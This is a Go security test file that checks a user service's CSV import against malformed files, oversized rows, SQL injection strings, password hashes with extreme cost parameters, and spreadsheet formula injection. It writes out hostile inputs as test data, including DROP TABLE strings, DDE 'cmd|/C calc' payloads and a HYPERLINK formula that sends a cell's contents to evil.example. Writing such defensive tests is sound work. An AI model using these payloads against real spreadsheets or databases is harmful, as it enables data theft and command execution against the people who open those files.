package security

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/userservice/userservice/bootstrap"
	"github.com/userservice/userservice/tests/harness"
)

// importReport is the answer to an import.
type importReport struct {
	TotalRows       int  `json:"total_rows"`
	Imported        int  `json:"imported"`
	Updated         int  `json:"updated"`
	Failed          int  `json:"failed"`
	ErrorsTruncated bool `json:"errors_truncated"`
	Errors          []struct {
		Line    int    `json:"line"`
		Field   string `json:"field"`
		Message string `json:"message"`
	} `json:"errors"`
}

// TestAPI10_UnsafeConsumption_MalformedCSV is API10:2023 Unsafe Consumption
// of APIs: the CSV an import reads comes from another system (the FastAPI
// service's export, a spreadsheet) and is trusted no more than a client's
// request. Each broken file is answered with a report or a 4xx, quickly,
// never a 5xx; each bad row is reported by line and writes nothing; only
// the good rows become users. Password hashes with parameters that would
// cost minutes per login are refused, not stored.
func TestAPI10_UnsafeConsumption_MalformedCSV(t *testing.T) {
	t.Parallel()
	harness.OnEachBackend(t, harness.Options{}, func(t *testing.T, s *harness.Service) {
		root := s.SeedSuperadmin(t)
		good := func(tag string) string { return "Ann,Lee," + harness.Email("good-"+tag) + ",female,10.0.0.1\n" }
		row := func(cells ...string) string { return strings.Join(cells, ",") + "\n" }
		long := strings.Repeat("x", 70<<10)
		for _, tc := range []struct {
			name     string
			data     string
			imported int // users the import may create: the good rows
		}{
			{"empty", "", 0},
			{"header only", csvHeader, 0},
			{"no header", good("a"), 0},
			{"a required column missing", "first_name,last_name,email\nAnn,Lee,x@example.com\n", 0},
			{"the same column twice", "email,email,first_name,last_name,gender,ip_address\n", 0},
			{"an unbalanced quote", csvHeader + good("b") + `"Ann,Lee,q@example.com,female,10.0.0.1` + "\n" + good("c"), 1},
			{"a stray quote", csvHeader + `An"n,Lee,` + harness.Email("stray") + ",female,10.0.0.1\n" + good("d"), 1},
			{"too few cells", csvHeader + "Ann,Lee\n" + good("e"), 1},
			{"too many cells", csvHeader + "Ann,Lee,x@example.com,female,10.0.0.1,extra,more\n" + good("f"), 1},
			{"binary garbage", csvHeader + "\x00\x01\x02\xff\xfe\x00,\x00\n" + good("g"), 1},
			{"invalid UTF-8", csvHeader + row("An\xffn", "Lee", harness.Email("utf"), "female", "10.0.0.1") + good("h"), 1},
			{"NUL in a cell", csvHeader + row("An\x00n", "Lee", harness.Email("nul"), "female", "10.0.0.1") + good("i"), 1},
			{"a row past 64 KiB", csvHeader + good("j") + row(long, "Lee", harness.Email("long"), "female", "10.0.0.1") + good("k"), 1},
			{"a million commas", strings.Repeat(",", 1<<20-100) + "\n", 0},
			{"only newlines", strings.Repeat("\n", 100000), 0},
			{"a BOM and CRLF", "\ufeff" + strings.ReplaceAll(csvHeader+good("l")+good("m"), "\n", "\r\n"), 2},
			{"SQL in the cells", csvHeader + row("Robert'); DROP TABLE users;--", "Lee", harness.Email("sql"), "female", "10.0.0.1") +
				row("Ann", "Lee", "x'--@example.com", "female", "1' OR '1'='1") + good("n"), 1},
			// An id is kept only when free (docs/api.md): this row gets another.
			{"the id of another user", "id," + csvHeader + fmt.Sprintf("%d,", root.ID) + good("o"), 1},
			{"hash with 4 GiB of memory", "password_hash," + csvHeader + "$argon2id$v=19$m=4194304,t=1,p=1$c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA," + good("p"), 0},
			{"hash with 100 passes", "password_hash," + csvHeader + "$argon2id$v=19$m=65536,t=100,p=1$c2FsdHNhbHQ$aGFzaGhhc2hoYXNoaGFzaA," + good("q"), 0},
			{"bcrypt cost 31", "password_hash," + csvHeader + "$2b$31$abcdefghijklmnopqrstuuSSSSSSSSSSSSSSSSSSSSSSSSSSSSSSS," + good("r"), 0},
			{"not a hash", "password_hash," + csvHeader + "plaintext-password," + good("s"), 0},
		} {
			t.Run(tc.name, func(t *testing.T) {
				start := time.Now()
				r := s.Do(t, http.MethodPost, importPath, root.Access, csvBody(tc.data))
				if took := time.Since(start); took > 20*time.Second {
					t.Errorf("%s: took %v", tc.name, took)
				}
				if r.Status != http.StatusOK {
					if r.Status < 400 || tc.imported > 0 {
						t.Errorf("%.300s: want a 200 report with %d imported", r, tc.imported)
					}
					return
				}
				var rep importReport
				r.Decode(t, &rep)
				if rep.Imported != tc.imported {
					t.Errorf("%.300s: imported %d, want %d", r, rep.Imported, tc.imported)
				}
				if rep.Imported < rep.TotalRows && len(rep.Errors) == 0 {
					t.Errorf("%.300s: rows were not imported and no error says why", r)
				}
			})
		}
		// Nothing but the good rows became users.
		var all harness.PageDTO
		s.Expect(t, http.StatusOK, http.MethodGet, list+"?size=100", root.Access, nil).Decode(t, &all)
		for _, u := range all.Items {
			if u.ID != root.ID && !strings.HasPrefix(u.Email, "good-") {
				t.Errorf("a user from a bad row: %+v", u)
			}
			if u.ID != root.ID && u.FirstName != "Ann" {
				t.Errorf("a user with a first name from a bad row: %+v", u)
			}
		}
		if got := snapshot(t, s, root, root.ID); !strings.Contains(got, `"role":"superadmin"`) || !strings.Contains(got, root.Email) {
			t.Errorf("the superadmin changed: %s", got)
		}
	})
}

// TestAPI10_UnsafeConsumption_FormulaInjectionInTheReport is API10:2023:
// cells that a spreadsheet would run as formulas (=, +, -, @, tab, CR) come
// back in the rejected-rows report of `userservice import --report`, which
// people open in spreadsheets; each such cell is neutralised with a leading
// quote (OWASP's CSV injection advice), header included.
func TestAPI10_UnsafeConsumption_FormulaInjectionInTheReport(t *testing.T) {
	t.Parallel()
	harness.OnEachBackend(t, harness.Options{}, func(t *testing.T, s *harness.Service) {
		dir := t.TempDir()
		in, report := filepath.Join(dir, "in.csv"), filepath.Join(dir, "rejected.csv")
		payloads := []string{
			`=HYPERLINK("https://evil.example/?x="&A1,"click")`, `=cmd|' /C calc'!A0`, "+1+cmd|' /C calc'!A0",
			"-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
		}
		var data bytes.Buffer
		w := csv.NewWriter(&data)
		_ = w.Write([]string{"first_name", "last_name", "email", "gender", "ip_address", "=HYPERLINK(\"https://evil.example\")"})
		for i, p := range payloads {
			_ = w.Write([]string{p, "Lee", fmt.Sprintf("f%d@example.com", i), "female", "10.0.0.1", p})
			_ = w.Write([]string{"Ann", p, fmt.Sprintf("g%d@example.com", i), "female", "10.0.0.1", "x"})
		}
		w.Flush()
		if err := os.WriteFile(in, data.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}

		var out bytes.Buffer
		vars := map[string]string{"DATABASE_URL": s.DBURL, "POLICY_DIR": s.PolicyDir, "LOG_FORMAT": "json"}
		code := bootstrap.Main(t.Context(), []string{"import", in, "--report", report}, bootstrap.Env{
			Getenv: func(k string) string { return vars[k] }, Stdin: strings.NewReader(""), Stdout: &out, Stderr: s.Logs,
		})
		s.Leaks.Capture("the output of userservice import", out.String())
		if code != bootstrap.ExitFailure {
			t.Errorf("userservice import: exit status %d, want 1 (rows failed): %s", code, out.String())
		}
		var rep importReport
		if err := json.Unmarshal(out.Bytes(), &rep); err != nil || rep.Failed != 2*len(payloads) {
			t.Fatalf("the report %q (%v): want %d failed rows", out.String(), err, 2*len(payloads))
		}

		f, err := os.ReadFile(report)
		if err != nil {
			t.Fatal(err)
		}
		rd := csv.NewReader(bytes.NewReader(f))
		rd.FieldsPerRecord = -1
		records, err := rd.ReadAll()
		if err != nil {
			t.Fatalf("the rejected-rows report is not CSV: %v", err)
		}
		if len(records) != 1+2*len(payloads) {
			t.Errorf("the report has %d records, want a header and %d rows", len(records), 2*len(payloads))
		}
		neutralised := 0
		for i, rec := range records {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("record %d: cell %q would run as a formula", i, cell)
				}
				if strings.HasPrefix(cell, "'") {
					neutralised++
				}
			}
		}
		if neutralised < 3*len(payloads) {
			t.Errorf("only %d cells were neutralised; the payloads were lost rather than kept harmless", neutralised)
		}
	})
}
